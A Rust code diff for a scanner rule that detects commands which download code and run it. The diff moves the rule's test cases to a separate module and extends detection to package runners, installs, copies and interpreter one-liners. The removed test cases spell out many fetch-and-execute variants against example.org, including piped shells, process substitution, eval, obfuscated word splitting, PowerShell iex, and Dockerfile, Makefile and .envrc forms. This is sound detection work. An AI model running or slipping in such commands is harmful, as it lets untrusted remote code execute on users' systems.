@@ -1,17 +1,18 @@
 //! Commands that run what they fetch from the network.
 
+mod examples;
+
 use std::collections::HashMap;
 
 use weighbridge_domain::{Confidence, Severity};
 
 use super::command::{
-    addresses, decodes, downloads, file_run, is_number, is_plain, runs_by_itself, saved_as, shown,
-    way_to_interpreter,
+    address, addresses, base, decodes, downloads, fetches, file_run, is_number, is_plain, runs_by_itself,
+    saved_as, shown, way_to_interpreter,
 };
-use super::{Check, Example, Findings, Light, Rule};
+use super::{Check, Findings, Light, Rule};
 use crate::facts::{Facts, Place};
-use crate::samples::commands::{dockerfile, script, steps};
-use crate::samples::one;
+use crate::known::programs::{self, Asked, Language};
 use weighbridge_domain::facts::{Command, Program};
 
 /// Commands that run what they fetch from the network.
@@ -28,155 +29,7 @@ pub static RULE: Rule = Rule {
           checksum or signature is verified before it runs is not reported.",
     advice: "Fetch it, read it, and keep it beside the script; or verify its digest before it runs.",
     references: &["CWE-494", "CWE-829", "AML.T0010", "AML.T0011"],
-    examples: &[
-        Example { name: "pipe", files: || script("curl -s http://example.org/demo | sh"), fires: ID },
-        Example {
-            name: "pipe-twin",
-            files: || script("curl -s http://example.org/demo | grep demo"),
-            fires: &[],
-        },
-        Example {
-            name: "pipe-encrypted",
-            files: || script("curl -fsSL https://example.org/demo | bash -s -- --yes"),
-            fires: ID,
-        },
-        Example {
-            name: "pipe-number",
-            files: || script("wget -qO- https://192.0.2.7/demo | sudo bash"),
-            fires: &["address-raw", "command-runs-download"],
-        },
-        Example {
-            name: "pipe-through",
-            files: || script("curl -s http://example.org/demo | gunzip | tee log | python3 -"),
-            fires: ID,
-        },
-        Example {
-            name: "pipe-through-twin",
-            files: || script("curl -s http://example.org/demo | python3 -m json.tool"),
-            fires: &[],
-        },
-        Example {
-            name: "file-of-process",
-            files: || script("bash <(curl -s http://example.org/demo)"),
-            fires: ID,
-        },
-        Example {
-            name: "file-of-process-twin",
-            files: || script("diff <(curl -s http://example.org/demo) demo"),
-            fires: &[],
-        },
-        Example {
-            name: "source-of-process",
-            files: || script("source <(curl -s http://example.org/demo)"),
-            fires: ID,
-        },
-        Example {
-            name: "text",
-            files: || script("sh -c \"$(curl -fsSL http://example.org/demo)\""),
-            fires: ID,
-        },
-        Example {
-            name: "evaluated",
-            files: || script("eval \"`wget -qO- http://example.org/demo`\""),
-            fires: ID,
-        },
-        Example {
-            name: "evaluated-twin",
-            files: || script("echo \"$(curl -s http://example.org/demo)\""),
-            fires: &[],
-        },
-        Example {
-            name: "by-variable",
-            files: || script("code=$(curl -s http://example.org/demo)\nsh -c \"$code\""),
-            fires: ID,
-        },
-        Example {
-            name: "split-words",
-            files: || script("c='cur'l; $c -s http://example.org/demo | s\\h"),
-            fires: ID,
-        },
-        Example {
-            name: "in-shell",
-            files: || script("nohup sudo bash -c 'curl -s http://example.org/demo | sh' &"),
-            fires: ID,
-        },
-        Example {
-            name: "by-arguments",
-            files: || script("curl -s http://example.org/demo | xargs -I{} sh -c '{}'"),
-            fires: ID,
-        },
-        Example {
-            name: "loop",
-            files: || script("curl -s http://example.org/demo | while read -r line; do bash; done"),
-            fires: ID,
-        },
-        Example {
-            name: "saved",
-            files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/demo\n/tmp/demo"),
-            fires: ID,
-        },
-        Example {
-            name: "saved-twin",
-            files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/other\n/tmp/other"),
-            fires: &[],
-        },
-        Example {
-            name: "saved-script",
-            files: || script("wget http://example.org/demo.sh && bash demo.sh"),
-            fires: ID,
-        },
-        Example {
-            name: "saved-verified-twin",
-            files: || script("wget http://example.org/demo.sh\nsha256sum -c demo.sums\nbash demo.sh"),
-            fires: &[],
-        },
-        Example {
-            name: "windows",
-            files: || script("powershell -Command \"iex (iwr http://example.org/demo)\""),
-            fires: ID,
-        },
-        Example { name: "windows-twin", files: || script("powershell -Command \"Get-Date\""), fires: &[] },
-        Example {
-            name: "image",
-            files: || dockerfile("RUN curl -fsSL http://example.org/demo | sh"),
-            fires: ID,
-        },
-        Example {
-            name: "image-document",
-            files: || dockerfile("RUN <<EOF\nset -e\ncurl http://example.org/demo | sh\nEOF"),
-            fires: ID,
-        },
-        Example {
-            name: "image-words",
-            files: || dockerfile("RUN [\"sh\", \"-c\", \"curl http://example.org/demo | sh\"]"),
-            fires: ID,
-        },
-        Example {
-            name: "image-twin",
-            files: || dockerfile("RUN curl -fsSLo demo.tar http://example.org/demo.tar && tar xf demo.tar"),
-            fires: &[],
-        },
-        Example {
-            name: "workflow",
-            files: || steps("    - run: curl http://example.org/demo | sh"),
-            fires: ID,
-        },
-        Example {
-            name: "makefile",
-            files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo | sh\n"),
-            fires: ID,
-        },
-        Example {
-            name: "makefile-twin",
-            files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo\n"),
-            fires: &[],
-        },
-        Example {
-            name: "folder-opened",
-            files: || one(".envrc", "curl -s https://example.org/demo | sh\n"),
-            fires: &["command-runs-download", "opens-and-runs"],
-        },
-    ],
+    examples: examples::EXAMPLES,
     check: Check::File(check),
 };
 
@@ -184,7 +37,7 @@ const ID: &[&str] = &["command-runs-download"];
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     // What was saved in a part, by the name of the file: the address it came from.
-    let mut saved: HashMap<(*const u8, String), String> = HashMap::new();
+    let mut saved: Saved = HashMap::new();
     for (place, command) in facts.commands() {
         let part = place.reading.member.as_ptr();
         if let Some((address, way)) = piped(command) {
@@ -196,22 +49,128 @@ fn check(facts: &Facts, findings: &mut Findings<'_>) {
             report(findings, place, command, &command.text, false);
             continue;
         }
-        for program in &command.programs {
+        if let Some(address) = command.programs.iter().find_map(at_once) {
+            report(findings, place, command, &address, false);
+            continue;
+        }
+        for (at, program) in command.programs.iter().enumerate() {
             if verifies(program) {
                 saved.clear();
             }
-            if let Some(address) = file_run(program).and_then(|name| saved.remove(&(part, name.to_owned()))) {
+            let key = |name: &str| (part, name.to_owned());
+            let weak = |address: &String| is_number(address) || is_plain(address);
+            let run = file_run(program).and_then(|name| saved.remove(&key(name)));
+            // What is found by its name, and packages, are usual ways to install something.
+            let run = run.or_else(|| {
+                let name = installed(program).or_else(|| program.words.first().map(String::as_str))?;
+                let key = key(base(name));
+                if saved.get(&key).is_some_and(weak) { saved.remove(&key) } else { None }
+            });
+            // What reads a file hands it to an interpreter.
+            let run = run.or_else(|| {
+                way_to_interpreter(command, at)?;
+                program.arguments().iter().find_map(|word| saved.remove(&key(base(word))))
+            });
+            let run = run.or_else(|| {
+                let path = program.words.iter().find(|word| word.contains('/') && !word.contains(':'))?;
+                file_run(program)?;
+                let folder = path.trim_start_matches("./").split('/').next()?;
+                saved.get(&key(&format!("{folder}/"))).cloned()
+            });
+            if let Some(address) = run {
                 report(findings, place, command, &address, false);
             }
-            if downloads(program)
-                && let Some(name) = saved_as(program).filter(|name| !name.is_empty())
-                && saved.len() < MOST_SAVED
-            {
-                let address = addresses(program).next().unwrap_or_default().to_owned();
-                saved.insert((part, name.to_owned()), address);
+            if saved.len() < MOST_SAVED {
+                save(&mut saved, part, command, at);
             }
         }
     }
+}
+
+type Saved = HashMap<(*const u8, String), String>;
+
+/// Remembers what a program puts into files.
+fn save(saved: &mut Saved, part: *const u8, command: &Command, at: usize) {
+    let Some(program) = command.programs.get(at) else { return };
+    let from = address(program).to_owned();
+    if downloads(program) || matches!(program.name(), "rsync" | "scp") {
+        if let Some(name) = saved_as(program).filter(|name| !name.is_empty()) {
+            saved.insert((part, name.to_owned()), from.clone());
+        }
+        let next = program.feeds.and_then(|feed| command.programs.get(feed.to));
+        if let Some(tee) = next.filter(|next| next.name() == "tee") {
+            for name in tee.arguments().iter().filter(|word| !word.starts_with('-')).take(8) {
+                saved.insert((part, base(name).to_owned()), from.clone());
+            }
+        }
+        return;
+    }
+    let words = program.arguments();
+    match (program.name(), words) {
+        ("cp" | "install" | "ln" | "mv", [.., old, new]) => {
+            let known = saved.get(&(part, base(old).to_owned())).cloned();
+            if let Some(address) = known.filter(|_| !new.ends_with('/')) {
+                saved.insert((part, base(new).to_owned()), address);
+            }
+        }
+        ("git", [first, .., last]) if first == "clone" && (is_plain(&from) || is_number(&from)) => {
+            let folder = base(last).trim_end_matches(".git");
+            saved.insert((part, format!("{folder}/")), from);
+        }
+        _ => {}
+    }
+}
+
+/// The package that a program installs from a file.
+fn installed(program: &Program) -> Option<&str> {
+    let words = program.arguments();
+    let installs = match program.name() {
+        "dpkg" => words.iter().any(|word| matches!(word.as_str(), "-i" | "--install")),
+        "rpm" => words.iter().any(|word| word.starts_with("-i") || word.starts_with("-U")),
+        "apt" | "apt-get" | "dnf" | "yum" => words.iter().any(|word| word == "install"),
+        _ => false,
+    };
+    words
+        .iter()
+        .rfind(|word| installs && matches!(word.rsplit('.').next(), Some("deb" | "rpm")))
+        .map(String::as_str)
+}
+
+/// The address of what a program fetches and runs in one.
+fn at_once(program: &Program) -> Option<String> {
+    let words = program.arguments();
+    let has = |wanted: &[&str]| words.iter().any(|word| wanted.contains(&word.as_str()));
+    let runs = match program.name() {
+        "bunx" | "npx" | "pnpx" | "uvx" => true,
+        "bun" | "deno" => has(&["run", "x"]),
+        "pipx" => has(&["run"]),
+        "rpm" => installed(program).is_some_and(is_plain),
+        _ => false,
+    };
+    let given = addresses(program).find(|word| !word.starts_with("--"));
+    if runs && let Some(address) = given {
+        return Some(address.trim_start_matches("git+").to_owned());
+    }
+    one_liner(program)
+}
+
+/// A program in one line that fetches text and runs it.
+fn one_liner(program: &Program) -> Option<String> {
+    let words: Vec<&str> = program.words.iter().map(String::as_str).collect();
+    let Some(Asked::Code(at)) = programs::asked(&words) else { return None };
+    if programs::language(program.name()) != Some(Language::Other) {
+        return None;
+    }
+    let code = words.get(at)?;
+    let start = ["https://", "http://", "ftp://"].iter().find_map(|scheme| code.find(scheme))?;
+    let runs = ["eval", "exec", "include", "instance_eval", "require", "runInThisContext", "system"];
+    let mut names = code.split(|c: char| !c.is_alphanumeric() && c != '_');
+    names.find(|name| runs.contains(name))?;
+    let fetches =
+        ["file_get_contents", "open", "URI", "fetch", "Net::HTTP", "LWP", "curl_exec", "get(", "include"];
+    let address = code.get(start..)?;
+    let end = address.find(['"', '\'', ' ', '`', ')']).unwrap_or(address.len());
+    fetches.iter().any(|word| code.contains(word)).then(|| address.get(..end).unwrap_or_default().to_owned())
 }
 
 /// Files that are remembered.
@@ -219,9 +178,9 @@ const MOST_SAVED: usize = 1000;
 
 /// What is fetched and goes to an interpreter: its address, and the programs on the way.
 fn piped(command: &Command) -> Option<(String, Vec<usize>)> {
-    command.programs.iter().enumerate().filter(|(_, program)| downloads(program)).find_map(|(at, program)| {
+    command.programs.iter().enumerate().filter(|(_, program)| fetches(program)).find_map(|(at, program)| {
         let way = way_to_interpreter(command, at)?;
-        Some((addresses(program).next().unwrap_or_default().to_owned(), way))
+        Some((address(program).to_owned(), way))
     })
 }
 
